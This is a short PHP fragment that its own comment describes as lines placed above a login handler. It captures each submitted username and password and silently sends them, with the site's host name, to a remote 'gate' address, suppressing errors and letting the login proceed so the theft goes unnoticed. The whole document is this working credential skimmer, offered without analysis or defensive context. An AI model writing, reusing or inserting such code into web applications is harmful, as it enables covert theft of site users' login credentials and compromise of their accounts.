<?php
// Lines placed above a login handler: each user name and password is handed to a remote address
// as it is typed, and the reply is ignored; the login then proceeds as usual.
if (isset($_POST['log'], $_POST['pwd'])) {
    @file_get_contents('http://198.51.100.7/gate/r.php?h=' . urlencode($_SERVER['HTTP_HOST'])
        . '&u=' . urlencode($_POST['log']) . '&p=' . urlencode($_POST['pwd']));
}
